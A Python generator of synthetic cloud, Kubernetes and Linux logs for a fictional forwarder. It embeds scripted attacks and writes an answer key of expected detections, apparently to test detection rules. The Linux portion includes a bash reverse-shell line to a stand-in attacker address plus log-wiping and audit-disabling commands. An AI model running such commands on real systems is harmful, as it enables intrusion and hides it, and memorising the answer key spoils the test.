#!/usr/bin/env python3
"""Writes the logs of Larkspur Freight, a made-up forwarder: six hours of ordinary work in several clouds, and a week's worth
of attacks among it. Usage: generate.py [FOLDER] (default: the one it lies in). Needs nothing but Python 3; the same seed gives
the same files. answers.yml, also written, says what must be found in them and where; nothing else of medium or higher may be.

  production 111122223333, security 222233334444, sandbox 444455556666 (AWS); a tenant of Entra ID and one subscription; the
  project larkspur-routing (Google Cloud); the cluster harbor; the hosts edge-1 and build-2; GitHub and Okta.
The attacker's addresses are in 203.0.113.0/24; the offices' and runners' in 192.0.2.0/24 and 198.51.100.0/24."""
import json
import pathlib
import sys
import time
import zlib

from records import (Ids, assumed_role, audit_exec, audit_write, aws, azure_activity, compact, console_login, entra_audit,
                     entra_signin, entra_target, gcp, github, iam_user, kubernetes, okta, okta_user, pod, policy_delta, root)

SEED = 'larkspur-2026-11-18'
PROD, SECURITY, SANDBOX = '111122223333', '222233334444', '444455556666'
REGION, HOME = 'eu-west-1', 'us-east-1'
START = 1794987000  # 2026-11-18T07:30:00Z
HOURS = 6
SUBSCRIPTION = '/subscriptions/0b1f6471-1bf0-4dda-aec3-cb9272f09590'
OFFICE = ['192.0.2.10', '192.0.2.11', '192.0.2.14', '198.51.100.23']
EVIL, EVIL2 = '203.0.113.77', '203.0.113.142'
USERS = {0: 'root', 33: 'www-data', 1000: 'dana'}
PEOPLE = ['alice', 'bob', 'dana', 'eve', 'farid', 'grace', 'hana', 'ivan']
DOMAIN = 'larkspur.example.com'


def iso(at, digits=0):
    text = time.strftime('%Y-%m-%dT%H:%M:%S', time.gmtime(int(at)))
    return text + (f'.{int(at * 10 ** digits) % 10 ** digits:0{digits}d}' if digits else '') + 'Z'


def clock(at):
    """'09:41' of the day to seconds."""
    hours, minutes = at.split(':')
    return START // 86400 * 86400 + int(hours) * 3600 + int(minutes) * 60


def mail(name):
    return f'{name}@{DOMAIN}'


class Log:
    """All events with their times, per file; and what must be found."""

    def __init__(self):
        self.files, self.answers, self.attack = {}, [], None

    def begin(self, name, story):
        self.attack = {'attack': name, 'story': story, 'detections': []}
        self.answers.append(self.attack)

    def add(self, file, at, event, rule=None):
        self.files.setdefault(file, []).append((at, len(self.files[file]) if file in self.files else 0, event))
        if rule:
            self.attack['detections'].append({'rule': rule, 'file': file, 'event': event})


class Organisation:
    def __init__(self):
        self.ids, self.log = Ids(SEED), Log()

    # ---- one event each; `rule` names the rule that must fire on it

    def aws(self, at, who, event, request=None, response=None, rule=None, region=REGION, account=None, **more):
        record = aws(self.ids, iso(at), who, event, request, response, region=region, **more)
        self.cloudtrail(at, record, region, account or who.get('accountId'), rule)
        return record

    def cloudtrail(self, at, record, region, account, rule=None):
        day = time.strftime('%Y/%m/%d', time.gmtime(at))
        # CloudTrail delivers about every five minutes; an hour a file keeps the example small
        stamp = time.strftime('%Y%m%dT%H00Z', time.gmtime(at))
        name = f'{account}_CloudTrail_{region}_{stamp}_larkspurExample'
        self.log.add(f'aws/AWSLogs/{account}/CloudTrail/{region}/{day}/{name}.json.gz', at, record, rule)

    def login(self, at, who, ip, mfa, rule=None, **more):
        self.cloudtrail(at, console_login(self.ids, iso(at), who, ip, mfa, **more), HOME, who['accountId'], rule)

    def entra(self, at, who, operation, category, targets, rule=None, **more):
        record = entra_audit(self.ids, iso(at, 7), who, operation, category, targets, **more)
        self.log.add('azure/entra-audit.ndjson', at, record, rule)

    def activity(self, at, who, operation, resource, rule=None, **more):
        """The activity log has two records of each operation: its start and its end."""
        for result, signature, found in (('Start', 'Started.', None), ('Success', 'Succeeded.OK', rule)):
            record = azure_activity(self.ids, iso(at, 7), who, operation, resource, result=result, signature=signature, **more)
            self.log.add('azure/activity.ndjson.gz', at, record, found)
            at += 2

    def gcp(self, at, who, method, service, name, kind, rule=None, **more):
        self.log.add('gcp/audit.ndjson.gz', at, gcp(self.ids, iso(at, 6), who, method, service, name, kind, **more), rule)

    def kube(self, at, user, verb, resource, *args, rule=None, **more):
        self.log.add('kubernetes/harbor-audit.ndjson.gz', at,
                     kubernetes(self.ids, iso(at, 6), user, verb, resource, *args, **more), rule)

    def github(self, at, action, actor, repo=None, rule=None, **more):
        self.log.add('github/audit.ndjson', at, github(self.ids, int(at * 1000), action, actor, repo, **more), rule)

    def okta(self, at, who, event, message, targets, rule=None, **more):
        self.log.add('okta/system.ndjson.gz', at, okta(self.ids, iso(at, 3), mail(who), event, message, targets, **more), rule)

    def exec(self, at, host, *argv, rule=None, **more):
        self.log.add(f'linux/{host}/audit.log', at, lambda serial: audit_exec(host, f'{at:.3f}', serial, list(argv), names=USERS, **more), rule)

    def write(self, at, host, path, exe, rule=None, **more):
        self.log.add(f'linux/{host}/audit.log', at, lambda serial: audit_write(host, f'{at:.3f}', serial, path, exe, names=USERS, **more), rule)

    def syslog(self, at, host, program, message, rule=None):
        stamp = time.strftime('%b %d %H:%M:%S', time.gmtime(at))
        pid = '' if program == 'sudo' else f'[{1200 + self.ids.below(8000)}]'
        self.log.add(f'linux/{host}/auth.log', at, f'{stamp} {host} {program}{pid}: {message}', rule)

    # ---- ordinary work

    def times(self, n):
        return sorted(START + self.ids.below(HOURS * 3600 * 1000) / 1000 for _ in range(n))

    def ordinary(self):
        for work in (self.ordinary_aws, self.ordinary_near_misses_aws, self.ordinary_microsoft, self.ordinary_gcp,
                     self.ordinary_kubernetes, self.ordinary_linux, self.ordinary_apps):
            work()

    def roles(self, account):
        return [(assumed_role(account, 'deploy', f'pipeline-{4700 + self.ids.below(60)}', self.ids.key('ASIA')), '198.51.100.80'),
                (assumed_role(account, 'routing-service', f'i-0{self.ids.hex(16)}', self.ids.key('ASIA'), delivery='2.0'), '192.0.2.200'),
                (assumed_role(account, 'AWSReservedSSO_Developer_4f1c', mail(self.ids.pick(PEOPLE)), self.ids.key('ASIA'), 'true'),
                 self.ids.pick(OFFICE)),
                (iam_user(account, 'backup-agent', 'AKIAEXAMPLEBACKUP001'), '198.51.100.81')]

    def ordinary_aws(self):
        routine = [('ec2:DescribeInstances', {'maxResults': 100}), ('ec2:DescribeSecurityGroups', {}), ('iam:ListRoles', None),
                   ('s3:ListBuckets', {'Host': 's3.eu-west-1.amazonaws.com'}), ('sts:GetCallerIdentity', None),
                   ('s3:GetBucketPolicy', {'bucketName': 'larkspur-manifests', 'policy': ''}),
                   ('kms:Decrypt', {'encryptionContext': {'purpose': 'manifest'}, 'encryptionAlgorithm': 'SYMMETRIC_DEFAULT'}),
                   ('secretsmanager:GetSecretValue', {'secretId': 'routing/db'}), ('logs:CreateLogStream', {'logGroupName': 'routing'}),
                   ('ec2:CreateTags', {'resourcesSet': {'items': [{'resourceId': 'i-0c1d2e3f405162738'}]}}),
                   ('ssm:GetParametersByPath', {'path': '/routing/', 'withDecryption': True}), ('ecs:DescribeServices', {'cluster': 'harbor'}),
                   ('lambda:GetFunction20150331v2', {'functionName': 'label-printer'}), ('cloudtrail:GetTrailStatus', {'name': 'organisation'}),
                   ('guardduty:ListDetectors', {}), ('ec2:CreateSnapshot', {'volumeId': 'vol-0c1d2e3f405162738', 'description': 'nightly'})]
        for account, n in ((PROD, 1500), (SECURITY, 250), (SANDBOX, 700)):
            roles = [self.roles(account) for _ in range(6)]
            for at in self.times(n):
                who, ip = self.ids.pick(self.ids.pick(roles))
                event, request = self.ids.pick(routine)
                denied = self.ids.below(40) == 0
                error = ('AccessDenied', f'User: {who["arn"]} is not authorized to perform: {event}') if denied else None
                self.aws(at, who, event, request, None, ip=ip, error=error)

    def ordinary_near_misses_aws(self):
        """What looks like an attack and is none: rules that fire here are too wide."""
        deploy, _ = self.roles(PROD)[0]
        alice = iam_user(PROD, 'alice', 'AKIAEXAMPLEALICE0001')
        self.login(clock('08:02'), root(SECURITY), '192.0.2.10', 'Yes')
        for person in PEOPLE[:5]:
            self.login(clock('07:40') + self.ids.below(7000), iam_user(SANDBOX, person, ''), self.ids.pick(OFFICE), 'Yes')
        self.login(clock('08:31'), iam_user(SANDBOX, 'bob', ''), '192.0.2.14', 'No', success=False)
        self.aws(clock('09:05'), alice, 'iam:CreateAccessKey', {'userName': 'alice'},
                 {'accessKey': {'userName': 'alice', 'accessKeyId': 'AKIAEXAMPLEALICE0002', 'status': 'Active'}}, region=HOME)
        self.aws(clock('09:07'), alice, 'iam:DeleteAccessKey', {'userName': 'alice', 'accessKeyId': 'AKIAEXAMPLEALICE0001'}, region=HOME)
        self.aws(clock('10:15'), deploy, 'ec2:AuthorizeSecurityGroupIngress',
                 {'groupId': 'sg-0d1e2f30415263748', 'ipPermissions': {'items': [
                     {'ipProtocol': 'tcp', 'fromPort': 443, 'toPort': 443, 'groups': {}, 'ipRanges': {'items': [{'cidrIp': '0.0.0.0/0'}]},
                      'ipv6Ranges': {}, 'prefixListIds': {}}]}}, {'_return': True}, ip='198.51.100.80')
        self.aws(clock('10:20'), deploy, 'iam:AttachRolePolicy', {'roleName': 'label-printer', 'policyArn':
                 'arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole'}, region=HOME, ip='198.51.100.80')
        self.aws(clock('11:00'), deploy, 's3:PutBucketPolicy', {'bucketName': 'larkspur-manifests', 'policy': '', 'bucketPolicy': {
            'Version': '2012-10-17', 'Statement': [{'Sid': 'tls', 'Effect': 'Deny', 'Principal': '*', 'Action': 's3:*', 'Resource':
                                                    'arn:aws:s3:::larkspur-manifests/*', 'Condition': {'Bool': {'aws:SecureTransport': 'false'}}}]}})
        self.aws(clock('11:30'), iam_user(SANDBOX, 'farid', 'AKIAEXAMPLEFARID0001'), 'cloudtrail:StopLogging', {'name': 'organisation'}, None,
                 error=('AccessDeniedException', 'explicit deny in a service control policy'))

    def ordinary_microsoft(self):
        apps = ['Office 365 Exchange Online', 'Microsoft Teams', 'Azure Portal', 'Larkspur Dispatch', 'GitHub Enterprise']
        for at in self.times(260):
            failed = self.ids.below(15) == 0
            record = entra_signin(self.ids, iso(at, 7), mail(self.ids.pick(PEOPLE)), self.ids.pick(apps), self.ids.pick(OFFICE),
                                  50126 if failed else 0, 'Invalid username or password' if failed else 'Other.')
            self.log.add('azure/entra-signin.ndjson.gz', at, record)
        for at in self.times(50):
            person = self.ids.pick(PEOPLE)
            target = [entra_target(self.ids, 'User', None, [('Department', '["Road"]', '["Sea"]')], mail(person))]
            operation = self.ids.pick(['Update user', 'Add member to group', 'Remove member from group', 'Change user license'])
            self.entra(at, mail('eve'), operation, 'UserManagement', target, ip=self.ids.pick(OFFICE))
        renewed = [entra_target(self.ids, 'ServicePrincipal', 'dispatch-functions', [('KeyDescription', '[]', '["[KeyType=AsymmetricX509Cert]"]')])]
        self.entra(clock('08:20'), {'app': 'Managed Service Identity'}, 'Add service principal credentials', 'ApplicationManagement', renewed)
        stricter = [entra_target(self.ids, 'Policy', 'Require compliant device', [
            ('ConditionalAccessPolicy', '{"state":"enabledForReportingButNotEnforced"}', '{"state":"enabled"}')])]
        self.entra(clock('09:30'), mail('eve'), 'Update conditional access policy', 'Policy', stricter, service='Conditional Access')
        work = ['Microsoft.Compute/virtualMachines/start/action', 'Microsoft.Storage/storageAccounts/listKeys/action',
                'Microsoft.Web/sites/write', 'Microsoft.Resources/deployments/write', 'microsoft.insights/diagnosticSettings/write']
        for at in self.times(90):
            self.activity(at, mail(self.ids.pick(PEOPLE[:4])), self.ids.pick(work), SUBSCRIPTION + '/resourceGroups/dispatch/providers/'
                          'Microsoft.Web/sites/dispatch', ip=self.ids.pick(OFFICE))

    def ordinary_gcp(self):
        builder = 'builder@larkspur-routing.iam.gserviceaccount.com'
        work = [('v1.compute.instances.list', 'compute.googleapis.com', 'projects/larkspur-routing', 'gce_project'),
                ('storage.objects.create', 'storage.googleapis.com', 'projects/_/buckets/larkspur-tiles/objects/t.mvt', 'gcs_bucket'),
                ('google.cloud.run.v1.Services.ReplaceService', 'run.googleapis.com', 'namespaces/larkspur-routing/services/tiles', 'cloud_run_revision'),
                ('google.logging.v2.ConfigServiceV2.GetSink', 'logging.googleapis.com', 'projects/larkspur-routing/sinks/to-archive', 'logging_sink'),
                ('google.iam.admin.v1.ListServiceAccountKeys', 'iam.googleapis.com', 'projects/-/serviceAccounts/1081', 'service_account')]
        for at in self.times(300):
            method, service, name, kind = self.ids.pick(work)
            who = self.ids.pick([builder, builder, mail('dana'), mail('grace')])
            status = {'code': 7, 'message': 'PERMISSION_DENIED'} if self.ids.below(30) == 0 else None
            self.gcp(at, who, method, service, name, kind, ip='198.51.100.80' if who == builder else self.ids.pick(OFFICE), status=status)
        self.gcp(clock('09:50'), mail('dana'), 'SetIamPolicy', 'cloudresourcemanager.googleapis.com', 'projects/larkspur-routing', 'project',
                 service_data=policy_delta([('ADD', 'roles/run.viewer', 'user:' + mail('hana'))]))

    def ordinary_kubernetes(self):
        node, scheduler = 'system:node:ip-10-0-1-17.eu-west-1.compute.internal', 'system:kube-scheduler'
        argo, certs = 'system:serviceaccount:argocd:argocd-application-controller', 'system:serviceaccount:cert-manager:cert-manager'
        accounts = ('system:serviceaccounts', 'system:authenticated')
        for at in self.times(900):
            kind = self.ids.below(8)
            if kind < 3:
                self.kube(at, node, 'get', 'pods', f'routing-{self.ids.hex(4)}', 'routing', groups=('system:nodes',), ip='10.0.1.17', agent='kubelet/v1.34.1')
            elif kind == 3:
                self.kube(at, scheduler, 'update', 'leases', 'kube-scheduler', 'kube-system', group='coordination.k8s.io', ip='10.0.0.4', agent='kube-scheduler/v1.34.1')
            elif kind == 4:
                self.kube(at, argo, 'list', 'deployments', None, 'routing', group='apps', groups=accounts, ip='10.0.2.9', agent='argocd-application-controller/v3')
            elif kind == 5:
                self.kube(at, certs, 'watch', 'secrets', groups=accounts, ip='10.0.2.31', agent='cert-manager/v1.19')
            elif kind == 6:
                self.kube(at, mail(self.ids.pick(PEOPLE[:4])), 'get', 'pods', f'routing-{self.ids.hex(4)}', 'routing', 'log', ip=self.ids.pick(OFFICE))
            else:
                self.kube(at, 'system:anonymous', 'get', None, uri='/readyz', groups=('system:unauthenticated',), ip='10.0.0.2', agent='ELB-HealthChecker/2.0')
        self.kube(clock('08:45'), 'system:serviceaccount:kube-system:daemon-set-controller', 'create', 'pods', 'cni-x7k2p', 'kube-system', code=201,
                  request=pod('cni', 'kube-system', 'registry.example.com/cni:3', {'privileged': True}), groups=accounts, ip='10.0.0.5')
        self.kube(clock('09:15'), 'system:serviceaccount:velero:velero', 'create', 'pods', 'routing-db-0', 'routing', 'exec', code=101,
                  stage='ResponseStarted', groups=accounts, ip='10.0.2.40', agent='velero-server/v1.17')
        self.kube(clock('10:05'), 'system:anonymous', 'list', 'pods', code=403, allowed=False, groups=('system:unauthenticated',), ip='203.0.113.9')

    def ordinary_linux(self):
        jobs = [['/usr/bin/df', '-h'], ['/usr/bin/systemctl', 'status', 'nginx'], ['/usr/bin/journalctl', '-u', 'nginx', '--since', 'today'],
                ['/usr/bin/git', 'fetch', '--prune'], ['/usr/bin/python3', '/opt/larkspur/healthcheck.py'], ['/usr/bin/find', '/srv', '-mtime', '-1'],
                ['/usr/bin/chmod', '0755', '/opt/larkspur/run.sh'], ['/usr/bin/tail', '-n', '200', '/var/log/auth.log'], ['/usr/bin/nc', '-z', '192.0.2.30', '5432'],
                ['/usr/bin/bash', '-c', 'ps aux > /tmp/ps.txt 2>&1']]
        for host in ('edge-1', 'build-2'):
            for at in self.times(120):
                self.exec(at, host, *self.ids.pick(jobs), uid=self.ids.pick([0, 1000, 33]), pid=2000 + self.ids.below(9000))
            self.exec(clock('08:10') + 0.25, host, '/usr/bin/journalctl', '--vacuum-time=30d', auid=4294967295, tty='(none)')
            self.write(clock('08:12') + 0.5, host, '/etc/cron.daily/man-db.dpkg-new', '/usr/bin/dpkg', auid=4294967295, tty='(none)')
            for at in self.times(110):
                person, kind = self.ids.pick(PEOPLE), self.ids.below(6)
                port = 40000 + self.ids.below(20000)
                if kind < 2:
                    self.syslog(at, host, 'sshd', f'Accepted publickey for {person} from {self.ids.pick(OFFICE)} port {port} ssh2: ED25519 SHA256:{self.ids.hex(20)}')
                elif kind == 2:
                    self.syslog(at, host, 'sshd', f'Failed password for invalid user admin from 198.51.100.{self.ids.below(250)} port {port} ssh2')
                elif kind == 3:
                    self.syslog(at, host, 'sudo', f'    {person} : TTY=pts/{self.ids.below(4)} ; PWD=/home/{person} ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx')
                elif kind == 4:
                    self.syslog(at, host, 'CRON', 'pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)')
                else:
                    self.syslog(at, host, 'systemd-logind', f'New session {self.ids.below(900)} of user {person}.')

    def ordinary_apps(self):
        for at in self.times(160):
            action = self.ids.pick(['git.clone', 'git.push', 'pull_request.merge', 'workflows.completed_workflow_run', 'repo.create', 'team.add_member'])
            actor = self.ids.pick(PEOPLE + ['renovate[bot]'])
            self.github(at, action, actor, self.ids.pick(['routing', 'dispatch', 'label-printer', 'infrastructure']), ip=self.ids.pick(OFFICE))
        for at in self.times(160):
            person = self.ids.pick(PEOPLE)
            event, message = self.ids.pick([('user.session.start', 'User login to Okta'), ('user.authentication.sso', 'User single sign on to app'),
                                            ('policy.evaluate_sign_on', 'Evaluation of sign-on policy')])
            app = {'id': '0oa' + self.ids.hex(17), 'type': 'AppInstance', 'alternateId': 'GitHub Enterprise', 'displayName': 'GitHub Enterprise', 'detailEntry': None}
            self.okta(at, person, event, message, [app], ip=self.ids.pick(OFFICE))
        self.okta(clock('10:40'), 'grace', 'user.mfa.factor.deactivate', 'Reset factor for user', [okta_user(mail('grace'))])

    # ---- the attacks

    def attacks(self):
        for attack in (self.help_desk_call, self.repository_opened, self.sandbox_taken_over, self.production_robbed, self.edge_host,
                       self.cluster, self.tenant, self.map_tiles):
            attack()

    def help_desk_call(self):
        self.log.begin('a call to the help desk', "Somebody who sounds like Bob has his second factors removed and is made administrator of Okta.")
        bob = okta_user(mail('bob'))
        self.okta(clock('08:52'), 'hana', 'user.mfa.factor.reset_all', 'Reset all factors for user', [bob], rule='okta/factors-reset-for-another-user')
        self.okta(clock('08:58'), 'bob', 'user.session.start', 'User login to Okta', [bob], ip=EVIL)
        self.okta(clock('09:03'), 'bob', 'user.account.privilege.grant', 'Grant user privilege', [okta_user(mail('svc-reports'))], ip=EVIL,
                  debug={'privilegeGranted': 'Super administrator'}, rule='okta/administrator-role-granted')

    def repository_opened(self):
        self.log.begin('a repository opened', "As Bob, the attacker stops secret scanning and publishes the infrastructure code with a key in its history.")
        evil = {'ip': EVIL, 'actor_location': {'country_code': 'XX'}}
        self.github(clock('09:11'), 'repository_secret_scanning.disable', 'bob', 'infrastructure', rule='github/secret-scanning-disabled', **evil)
        self.github(clock('09:12'), 'protected_branch.destroy', 'bob', 'infrastructure', name='main', rule='github/branch-protection-removed', **evil)
        self.github(clock('09:14'), 'repo.access', 'bob', 'infrastructure', visibility='public', previous_visibility='private',
                    public_repo=True, rule='github/repository-made-public', **evil)

    def sandbox_taken_over(self):
        self.log.begin('the sandbox taken over', "The leaked key of a CI user makes itself administrator, keys for three others and a password for one, who then signs in.")
        ci = iam_user(SANDBOX, 'ci-terraform', 'AKIAEXAMPLECITERRA01')
        evil = {'ip': EVIL, 'agent': 'Boto3/1.40.70 md/Botocore#1.40.70 ua/2.1 os/linux lang/python#3.13.5', 'region': HOME}
        self.aws(clock('09:21'), ci, 'sts:GetCallerIdentity', None, None, **evil)
        self.aws(clock('09:22'), ci, 'iam:ListUsers', None, None, **evil)
        self.aws(clock('09:24'), ci, 'iam:AttachUserPolicy', {'userName': 'ci-terraform', 'policyArn': 'arn:aws:iam::aws:policy/AdministratorAccess'},
                 rule='aws/administrator-policy-attached', **evil)
        for i, user in enumerate(('ivan', 'farid', 'backup-agent')):
            self.aws(clock('09:26') + 7 * i, ci, 'iam:CreateAccessKey', {'userName': user}, {'accessKey': {
                'userName': user, 'accessKeyId': f'AKIAEXAMPLENEW0000{i}', 'status': 'Active', 'createDate': 'Nov 18, 2026, 9:26:00 AM'}},
                rule='aws/access-key-created-for-another-user', **evil)
        self.aws(clock('09:27'), ci, 'iam:UpdateLoginProfile', {'userName': 'ivan', 'passwordResetRequired': False}, None,
                 rule='aws/login-profile-changed-for-another-user', **evil)
        self.login(clock('09:33'), iam_user(SANDBOX, 'ivan', ''), EVIL2, 'No', rule='aws/console-login-without-mfa')

    def production_robbed(self):
        self.log.begin('production robbed', "From the sandbox into production: GuardDuty and the trail are stopped, then the database's snapshot is given away.")
        who = assumed_role(PROD, 'OrganizationAccountAccessRole', 'ivan', 'ASIAEXAMPLEIVAN00003')
        evil = {'ip': EVIL2}
        self.aws(clock('09:48'), who, 'guardduty:DeleteDetector', {'detectorId': '12abc34d567e8fa901bc2d34e56789f0'}, None, rule='aws/guardduty-disabled', **evil)
        self.aws(clock('09:49'), who, 'cloudtrail:StopLogging', {'name': f'arn:aws:cloudtrail:eu-west-1:{PROD}:trail/local'}, None,
                 rule='aws/cloudtrail-stopped', **evil)
        self.aws(clock('09:55'), who, 'rds:CreateDBSnapshot', {'dBSnapshotIdentifier': 'tmp-1', 'dBInstanceIdentifier': 'manifests'}, None, **evil)
        self.aws(clock('10:04'), who, 'rds:ModifyDBSnapshotAttribute', {'dBSnapshotIdentifier': 'tmp-1', 'attributeName': 'restore', 'valuesToAdd': ['999988887777']},
                 {'dBSnapshotIdentifier': 'tmp-1'}, rule='aws/snapshot-shared-with-account', **evil)
        self.aws(clock('10:09'), who, 'ec2:AuthorizeSecurityGroupIngress', {'groupId': 'sg-0c1d2e3f405162738', 'ipPermissions': {'items': [
            {'ipProtocol': 'tcp', 'fromPort': 22, 'toPort': 22, 'groups': {}, 'ipRanges': {'items': [{'cidrIp': '0.0.0.0/0', 'description': 'tmp'}]},
             'ipv6Ranges': {}, 'prefixListIds': {}}]}}, {'requestId': self.ids.uuid(), '_return': True}, rule='aws/security-group-opens-admin-port', **evil)
        self.aws(clock('10:12'), who, 'kms:ScheduleKeyDeletion', {'keyId': f'arn:aws:kms:eu-west-1:{PROD}:key/0f1e2d3c-4b5a-4978-8695-a4b3c2d1e0f9',
                 'pendingWindowInDays': 7}, {'keyState': 'PendingDeletion'}, rule='aws/kms-key-deletion-scheduled', **evil)

    def edge_host(self):
        self.log.begin('a host at the edge', "SSH is now open: root's password is guessed on edge-1, a shell goes out, and the traces are swept.")
        for i in range(25):
            self.syslog(clock('10:20') + i * 4, 'edge-1', 'sshd', f'Failed password for root from {EVIL2} port {50100 + i} ssh2')
        self.syslog(clock('10:22'), 'edge-1', 'sshd', f'Accepted password for root from {EVIL2} port 50188 ssh2', rule='linux/sshd-root-login-with-password')
        at, root_login = clock('10:24'), {'auid': 0, 'pid': 9310}
        self.exec(at + 0.1, 'edge-1', '/usr/bin/bash', '-c', f'bash -i >& /dev/tcp/{EVIL2}/4444 0>&1', rule='linux/reverse-shell-bash-tcp', **root_login)
        self.write(at + 60.2, 'edge-1', '/etc/ld.so.preload', '/usr/bin/bash', rule='linux/ld-so-preload-written', **root_login)
        self.write(at + 75.3, 'edge-1', '/etc/cron.d/sync', '/usr/bin/bash', rule='linux/cron-file-written-by-unusual-program', **root_login)
        self.exec(at + 90.4, 'edge-1', '/usr/bin/chmod', 'u+s', '/var/tmp/sh', rule='linux/setuid-shell', **root_login)
        self.exec(at + 130.5, 'edge-1', '/usr/bin/truncate', '-s', '0', '/var/log/auth.log', rule='linux/log-destroyed', **root_login)
        self.exec(at + 131.6, 'edge-1', '/usr/sbin/auditctl', '-e', '0', rule='linux/audit-switched-off', **root_login)

    def cluster(self):
        self.log.begin('the cluster harbor', "A forgotten binding answers anonymous callers; with a stolen identity every secret is read and a node is entered.")
        open_to_all = {'groups': ('system:unauthenticated',), 'ip': EVIL, 'agent': 'curl/8.14.1',
                       'why': 'RBAC: allowed by ClusterRoleBinding "legacy-dashboard" of ClusterRole "view" to User "system:anonymous"'}
        self.kube(clock('10:41'), 'system:anonymous', 'list', 'pods', rule='kubernetes/anonymous-request-answered', **open_to_all)
        evil, group = {'ip': EVIL}, 'rbac.authorization.k8s.io'
        binding = {'kind': 'ClusterRoleBinding', 'apiVersion': group + '/v1', 'metadata': {'name': 'metrics-reader'}, 'subjects': [
            {'kind': 'User', 'apiGroup': group, 'name': mail('ivan')}], 'roleRef': {'apiGroup': group, 'kind': 'ClusterRole', 'name': 'cluster-admin'}}
        self.kube(clock('10:44'), mail('ivan'), 'create', 'clusterrolebindings', 'metrics-reader', group=group, code=201, request=binding,
                  rule='kubernetes/cluster-admin-granted', **evil)
        self.kube(clock('10:45'), mail('ivan'), 'list', 'secrets', rule='kubernetes/secrets-listed-in-all-namespaces', **evil)
        host = [{'name': 'host', 'hostPath': {'path': '/', 'type': ''}}]
        self.kube(clock('10:47'), mail('ivan'), 'create', 'pods', 'node-debugger', 'default', code=201, rule='kubernetes/pod-takes-over-node',
                  request=pod('node-debugger', 'default', 'docker.io/library/alpine:3', {'privileged': True}, host, hostPID=True), **evil)
        self.kube(clock('10:48'), mail('ivan'), 'create', 'pods', 'node-debugger', 'default', 'exec', code=101, stage='ResponseStarted',
                  uri='/api/v1/namespaces/default/pods/node-debugger/exec?command=chroot&command=%2Fmnt%2Fhost&stdin=true&tty=true',
                  rule='kubernetes/exec-into-pod-by-person', **evil)

    def tenant(self):
        self.log.begin('the Entra tenant', "A Global Administrator's session is used to drop a policy, give an application a secret, and reach every subscription.")
        who, evil = mail('eve'), {'ip': EVIL}
        policy = [entra_target(self.ids, 'Policy', 'Require MFA for administrators', [('ConditionalAccessPolicy', '{"state":"enabled"}', None)])]
        self.entra(clock('11:15'), who, 'Delete conditional access policy', 'Policy', policy, service='Conditional Access', kind='Delete',
                   rule='azure/conditional-access-weakened', **evil)
        secret = [entra_target(self.ids, 'ServicePrincipal', 'manifest-sync', [('KeyDescription', '[]', '["[KeyType=Password,KeyUsage=Verify,DisplayName=]"]')])]
        self.entra(clock('11:19'), who, 'Add service principal credentials', 'ApplicationManagement', secret,
                   rule='azure/service-principal-credential-added', **evil)
        graph = [entra_target(self.ids, 'ServicePrincipal', 'Microsoft Graph', [('AppRole.Value', None, '"RoleManagement.ReadWrite.Directory"')])]
        self.entra(clock('11:20'), who, 'Add app role assignment to service principal', 'ApplicationManagement', graph, kind='Assign',
                   rule='azure/application-granted-directory-control', **evil)
        self.activity(clock('11:24'), who, 'Microsoft.Authorization/elevateAccess/action', '/providers/Microsoft.Authorization',
                      rule='azure/access-elevated-to-all-subscriptions', **evil)
        self.activity(clock('11:26'), who, 'microsoft.insights/diagnosticSettings/delete',
                      SUBSCRIPTION + '/providers/microsoft.insights/diagnosticSettings/activity-to-workspace', rule='azure/diagnostic-settings-deleted', **evil)

    def map_tiles(self):
        self.log.begin('the routing project', "A key of a service account is taken away, the export of logs ends, and a private address becomes owner.")
        who, evil = mail('grace'), {'ip': EVIL2}
        account = 'projects/-/serviceAccounts/108123456789012345678'
        self.gcp(clock('12:02'), who, 'google.iam.admin.v1.CreateServiceAccountKey', 'iam.googleapis.com', account, 'service_account',
                 permission='iam.serviceAccountKeys.create', request={'name': account}, rule='gcp/service-account-key-created', **evil)
        self.gcp(clock('12:05'), who, 'google.logging.v2.ConfigServiceV2.DeleteSink', 'logging.googleapis.com', 'projects/larkspur-routing/sinks/to-archive',
                 'logging_sink', permission='logging.sinks.delete', rule='gcp/log-sink-deleted-or-disabled', **evil)
        self.gcp(clock('12:09'), who, 'SetIamPolicy', 'cloudresourcemanager.googleapis.com', 'projects/larkspur-routing', 'project',
                 permission='resourcemanager.projects.setIamPolicy', service_data=policy_delta([('ADD', 'roles/editor', 'user:larkspur.backup@gmail.com')]),
                 rule='gcp/role-granted-to-public-or-consumer-account', **evil)


# ---- writing

def gzipped(data):
    """A gzip member without a time or a name."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return (bytes([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 255]) + packer.compress(data) + packer.flush() +
            zlib.crc32(data).to_bytes(4, 'little') + (len(data) & 0xffffffff).to_bytes(4, 'little'))


def laid_out(name, events):
    """The bytes of a file, and for each event the line (or the ordinal) where it stands."""
    lines, at, places, is_records = [], 1, [], name.endswith('.json.gz')
    for number, (_, _, event) in enumerate(events):
        text = event(3000 + number) if callable(event) else event if isinstance(event, str) else compact(event)
        places.append(number + 1 if is_records else at)
        at += text.count('\n') + 1
        lines.append(text)
    text = '{"Records":[' + ','.join(lines) + ']}' if is_records else '\n'.join(lines) + '\n'
    return gzipped(text.encode()) if name.endswith('.gz') else text.encode(), places


def generate():
    """{path: bytes} of all files."""
    organisation = Organisation()
    organisation.ordinary()
    organisation.attacks()
    log, out, where = organisation.log, {}, {}
    for name, events in sorted(log.files.items()):
        events.sort(key=lambda e: e[:2])
        out['logs/' + name], places = laid_out(name, events)
        for (_, _, event), place in zip(events, places):
            where[id(event)] = place
    lines = ['# What must be found in logs/, and that nothing else of medium level or higher may be. Written by generate.py.']
    for attack in log.answers:
        lines += [f'- attack: {attack["attack"]}', f'  story: {json.dumps(attack["story"])}', '  detections:']
        for d in attack['detections']:
            lines.append(f'    - {{ rule: {d["rule"]}, file: {d["file"]}, line: {where[id(d["event"])]} }}')
    out['answers.yml'] = ('\n'.join(lines) + '\n').encode()
    return out


def main():
    folder = pathlib.Path(sys.argv[1] if len(sys.argv) > 1 else pathlib.Path(__file__).parent)
    for name, data in generate().items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)


if __name__ == '__main__':
    main()
